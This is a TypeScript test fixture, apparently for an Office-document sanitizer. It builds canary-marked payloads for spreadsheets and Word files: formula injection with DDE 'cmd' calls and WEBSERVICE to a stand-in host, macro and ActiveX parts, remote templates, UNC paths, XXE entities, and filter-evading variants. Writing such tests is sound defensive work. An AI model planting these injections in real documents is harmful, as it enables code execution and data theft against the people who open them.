import { type Parts, textOf, withParts } from '../corpus/operations/package.ts';

/** Stands in every payload: no formula, link or field of an output may hold it. */
export const canary = 'CHIMYEN7';

const outside = `https://${canary}.example/a`;
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '"=',
  ';=',
  ',=',
  '|=',
  "'=",
];
const calls = [
  `1+1&"${canary}"`,
  `cmd|'/C ${canary}'!A0`,
  `HYPERLINK("${outside}","xem")`,
  `WEBSERVICE("${outside}")`,
];
const sentences = [
  `{DDEAUTO cmd ${canary}}`,
  `DDE("cmd";"${canary}";"a")`,
  `<f>1+${canary}</f>`,
  `]]><w:instrText>DDE ${canary}</w:instrText>`,
  `</t></is></c><c r="A1"><f>${canary}</f></c>`,
  `javascript:alert('${canary}')`,
  `file:///\\\\${canary}\\a`,
  `_x003D_1+${canary}`,
  `{{#${canary}}}{{noi_dung}}{{/${canary}}}`,
  `\u202e=${canary}`,
  `\u001b]8;;${outside}\u0007bấm`,
];

/** Texts that a program might take for an order. */
export const texts: readonly string[] = [...starts.flatMap((s) => calls.map((c) => s + c)), ...sentences];

/** A file of ours with something in it that could act. */
export interface Payload {
  readonly name: string;
  readonly put: (bytes: Uint8Array) => Uint8Array;
}

type Additions = Readonly<Record<string, string>>;

/** Further relationships of a part, further parts, and their types. */
function adding(from: string, relations: string, parts: Additions = {}, types = ''): Payload['put'] {
  const slash = from.lastIndexOf('/') + 1;
  const rels = `${from.slice(0, slash)}_rels/${from.slice(slash)}.rels`;
  return (bytes) =>
    withParts(bytes, (own: Parts) => {
      const before = own[rels]
        ? textOf(own, rels)
        : '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
      const opened = before.replace(/<Relationships([^>]*)\/>/, '<Relationships$1></Relationships>');
      return {
        [rels]: opened.replace('</Relationships>', `${relations}</Relationships>`),
        '[Content_Types].xml': textOf(own, '[Content_Types].xml').replace('</Types>', `${types}</Types>`),
        ...parts,
      };
    });
}

const relation = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="zz1" Type="${type.includes(':') ? type : `${office}/${type}`}" Target="${target}"${mode}/>`;
const external = ' TargetMode="External"';
const override = (part: string, type: string): string =>
  `<Override PartName="/${part}" ContentType="${type}"/>`;
const rewriting =
  (part: string, from: RegExp, to: string): Payload['put'] =>
  (bytes) =>
    withParts(bytes, (own) => {
      const xml = textOf(own, part);
      const changed = xml.replace(from, () => to);
      if (changed === xml) throw new Error(`${part}: nothing was changed`);
      return { [part]: changed };
    });

const book = 'xl/workbook.xml';
const sheet = 'xl/worksheets/sheet1.xml';
const letter = 'word/document.xml';
const settings = 'word/settings.xml';
const ms = 'http://schemas.microsoft.com/office';

const formula = (f: string): Payload['put'] =>
  rewriting(sheet, /<\/sheetData>/, `<row r="9000"><c r="A9000"><f>${f}</f><v>1</v></c></row></sheetData>`);
const named = (f: string): Payload['put'] =>
  rewriting(
    book,
    /<\/sheets>/,
    `</sheets><definedNames><definedName name="zz">${f}</definedName></definedNames>`,
  );
const field = (instruction: string, cut = instruction.length): string => {
  const text = (t: string): string => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`;
  const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  const pieces =
    text(instruction.slice(0, cut)) + (cut < instruction.length ? text(instruction.slice(cut)) : '');
  return `<w:p>${mark('begin')}${pieces}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`;
};
const inBody = (xml: string): Payload['put'] => rewriting(letter, /(?=<w:sectPr(?![\s\S]*<w:sectPr))/, xml);

export const bookPayloads: readonly Payload[] = [
  {
    name: 'macro VBA',
    put: adding(book, relation(`${ms}/2006/relationships/vbaProject`, 'vbaProject.bin'), {
      'xl/vbaProject.bin': canary,
    }),
  },
  {
    name: 'macro VBA dưới tên khác',
    put: adding(book, relation(`${ms}/2006/relationships/vbaProject`, 'anh.xml'), { 'xl/anh.xml': canary }),
  },
  {
    name: 'kiểu có macro',
    put: rewriting('[Content_Types].xml', /spreadsheetml\.sheet\.main/, 'macroEnabled.main'),
  },
  {
    name: 'trang macro Excel 4',
    put: adding(book, relation(`${ms}/2006/relationships/xlMacrosheet`, 'macrosheets/s.xml'), {
      'xl/macrosheets/s.xml': `<xm:macrosheet xmlns:xm="${ms}/excel/2006/main"/>`,
    }),
  },
  {
    name: 'liên kết sổ khác',
    put: adding(book, relation('externalLink', 'externalLinks/e.xml'), {
      'xl/externalLinks/e.xml': '<externalLink/>',
      'xl/externalLinks/_rels/e.xml.rels': `<Relationships>${relation('externalLinkPath', outside, external)}</Relationships>`,
    }),
  },
  {
    name: 'DDE trong liên kết',
    put: adding(book, relation('externalLink', 'externalLinks/e.xml'), {
      'xl/externalLinks/e.xml': `<externalLink><ddeLink ddeService="cmd" ddeTopic="${canary}"/></externalLink>`,
    }),
  },
  { name: 'công thức DDE', put: formula(`cmd|'/C ${canary}'!A0`) },
  { name: 'công thức DDE viết bằng mã', put: formula(`cmd&#124;'/C ${canary}'!A0`) },
  { name: 'công thức trong CDATA', put: formula(`<![CDATA[cmd|'/C ${canary}'!A0]]>`) },
  { name: 'công thức gọi mạng', put: formula(`WEBSERVICE("${outside}")`) },
  { name: 'công thức gọi mạng bị ngắt', put: formula(`WEB<!-- -->SERVICE("${outside}")`) },
  { name: 'công thức liên kết', put: formula(`HYPERLINK("${outside}")`) },
  { name: 'công thức trên sổ khác', put: formula(`'\\\\${canary}\\a\\[b.xlsx]S'!A1`) },
  { name: 'tên gọi chương trình', put: named(`cmd|'/C ${canary}'!A0`) },
  { name: 'tên gọi hàm macro', put: named(`EXEC("${canary}")`) },
  {
    name: 'đối tượng nhúng',
    put: adding(sheet, relation('oleObject', '../embeddings/o.bin'), { 'xl/embeddings/o.bin': canary }),
  },
  { name: 'đối tượng ở nơi khác', put: adding(sheet, relation('oleObject', outside, external)) },
  {
    name: 'nút ActiveX',
    put: adding(sheet, relation('control', '../activeX/a.xml'), { 'xl/activeX/a.xml': `<a>${canary}</a>` }),
  },
  { name: 'ảnh trên mạng', put: adding(sheet, relation('image', outside, external)) },
  {
    name: 'ảnh trên mạng giấu kiểu',
    put: adding(sheet, relation('image', ` TargetMode='Internal' ${outside}`, external)),
  },
  { name: 'địa chỉ trang web', put: adding(sheet, relation('hyperlink', outside, external)) },
  {
    name: 'cơ sở dữ liệu',
    put: adding(book, relation('connections', 'connections.xml'), {
      'xl/connections.xml': `<connections>${canary}</connections>`,
    }),
  },
  {
    name: 'bảng truy vấn',
    put: adding(sheet, relation('queryTable', '../queryTables/q.xml'), {
      'xl/queryTables/q.xml': `<queryTable>${canary}</queryTable>`,
    }),
  },
  {
    name: 'thanh lệnh riêng',
    put: adding('', relation(`${ms}/2006/relationships/ui/extensibility`, 'customUI/customUI.xml'), {
      'customUI/customUI.xml': `<customUI onLoad="${canary}"/>`,
    }),
  },
  {
    name: 'tiện ích',
    put: adding('', relation(`${ms}/2011/relationships/webextensiontaskpanes`, 'xl/webextensions/t.xml'), {
      'xl/webextensions/t.xml': `<a>${canary}</a>`,
    }),
  },
  {
    name: 'hình gọi macro',
    put: adding(sheet, relation('drawing', '../drawings/zz.xml'), {
      'xl/drawings/zz.xml': `<xdr:wsDr xmlns:xdr="x"><xdr:sp macro="[0]!${canary}"/></xdr:wsDr>`,
    }),
  },
  {
    name: 'DOCTYPE',
    put: rewriting(sheet, /<worksheet/, `<!DOCTYPE a [<!ENTITY x SYSTEM "${outside}">]><worksheet`),
  },
  {
    name: 'liên kết UTF-16',
    put: (bytes) =>
      withParts(bytes, () => ({
        'xl/worksheets/_rels/sheet1.xml.rels': new Uint8Array(
          Buffer.from(`<Relationships>${relation('image', outside, external)}</Relationships>`, 'utf16le'),
        ),
      })),
  },
];

export const letterPayloads: readonly Payload[] = [
  {
    name: 'macro VBA',
    put: adding(letter, relation(`${ms}/2006/relationships/vbaProject`, 'vbaProject.bin'), {
      'word/vbaProject.bin': canary,
    }),
  },
  {
    name: 'kiểu có macro',
    put: rewriting('[Content_Types].xml', /wordprocessingml\.document\.main/, 'macroEnabled.main'),
  },
  { name: 'mẫu trên mạng', put: adding(settings, relation('attachedTemplate', `${outside}.dotm`, external)) },
  {
    name: 'mẫu trên máy chủ',
    put: adding(settings, relation('attachedTemplate', `\\\\${canary}\\a.dotm`, external)),
  },
  { name: 'trường DDE', put: inBody(field(`DDEAUTO cmd "${canary}"`)) },
  { name: 'trường DDE bị ngắt', put: inBody(field(`DDEAUTO cmd "${canary}"`, 2)) },
  { name: 'trường dde chữ thường', put: inBody(field(`dde cmd "${canary}"`)) },
  { name: 'trường DDE viết bằng mã', put: inBody(field(`&#68;DE cmd "${canary}"`)) },
  { name: 'trường DDE đánh vần', put: inBody(field(`QUOTE 68 68 69 65 85 84 79 32 ${canary}`)) },
  {
    name: 'trường đơn DDE',
    put: inBody(`<w:p><w:fldSimple w:instr="DDE cmd ${canary}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`),
  },
  { name: 'trường lấy văn bản', put: inBody(field(`INCLUDETEXT "${outside}"`)) },
  { name: 'trường lấy ảnh', put: inBody(field(`INCLUDEPICTURE "${outside}" \\d`)) },
  { name: 'trường liên kết ra ngoài', put: inBody(field(`HYPERLINK "${outside}"`)) },
  { name: 'trường LINK', put: inBody(field(`LINK Excel.Sheet "${outside}"`)) },
  { name: 'nút macro', put: inBody(field(`MACROBUTTON ${canary} bấm`)) },
  {
    name: 'đối tượng nhúng',
    put: adding(letter, relation('oleObject', 'embeddings/o.bin'), { 'word/embeddings/o.bin': canary }),
  },
  { name: 'đối tượng ở nơi khác', put: adding(letter, relation('oleObject', outside, external)) },
  {
    name: 'gói nhúng',
    put: adding(letter, relation('package', 'embeddings/o.xlsx'), { 'word/embeddings/o.bin': canary }),
  },
  { name: 'văn bản con', put: adding(letter, relation('subDocument', outside, external)) },
  { name: 'khung trang', put: adding('word/webSettings.xml', relation('frame', outside, external)) },
  { name: 'đoạn chèn HTML', put: adding(letter, relation('aFChunk', 'a.html'), { 'word/a.html': canary }) },
  { name: 'ảnh trên mạng', put: adding(letter, relation('image', outside, external)) },
  {
    name: 'ảnh VML tự ghi địa chỉ',
    put: inBody(
      `<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="${outside}"/></w:pict></w:r></w:p>`,
    ),
  },
  { name: 'địa chỉ trang web', put: adding(letter, relation('hyperlink', outside, external)) },
  {
    name: 'nút ActiveX',
    put: adding(letter, relation('control', 'activeX/a.xml'), { 'word/activeX/a.xml': `<a>${canary}</a>` }),
  },
  {
    name: 'thanh lệnh riêng',
    put: adding('', relation(`${ms}/2006/relationships/ui/extensibility`, 'customUI/customUI.xml'), {
      'customUI/customUI.xml': `<customUI onLoad="${canary}"/>`,
    }),
  },
  {
    name: 'trộn thư',
    put: rewriting(
      settings,
      /(<w:settings[^>]*>)/,
      `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="${canary}"/></w:mailMerge>`,
    ),
  },
  {
    name: 'trường ở chân trang',
    put: adding(
      letter,
      relation('footer', 'zz.xml'),
      {
        'word/zz.xml': `<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field(`DDE cmd ${canary}`)}</w:ftr>`,
      },
      override('word/zz.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml'),
    ),
  },
  {
    name: 'DOCTYPE',
    put: rewriting(letter, /<w:document/, `<!DOCTYPE a [<!ENTITY x SYSTEM "${outside}">]><w:document`),
  },
];
